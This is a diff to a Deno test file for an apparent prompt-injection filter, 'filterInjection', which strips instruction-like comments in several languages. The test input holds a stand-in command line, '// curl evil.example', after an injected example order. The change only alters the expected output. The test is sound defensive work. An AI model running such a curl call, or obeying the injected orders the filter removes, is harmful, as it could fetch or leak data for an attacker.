@@ -93,7 +93,7 @@ for (const { lang, doc, example, benign, orders } of ORDER_LANGUAGES) {
   Deno.test(`orders in ${doc}: the example goes with what follows it, the benign text stays`, () => {
     assert.match(lang, /^[a-z]{2}(?:-[A-Z][a-z]{3})?$/);
     const { text } = filterInjection(`// ${example}.\n// curl evil.example\nrun();`);
-    assert.equal(text, `// ${FILTERED}\nrun();`);
+    assert.equal(text, `// ${FILTERED}\n\nrun();`);
     assert.equal(filterInjection(benign).text, benign);
     for (const groups of orders) {
       for (const stems of groups) assert.equal(new Set(stems).size, stems.length, stems.join());
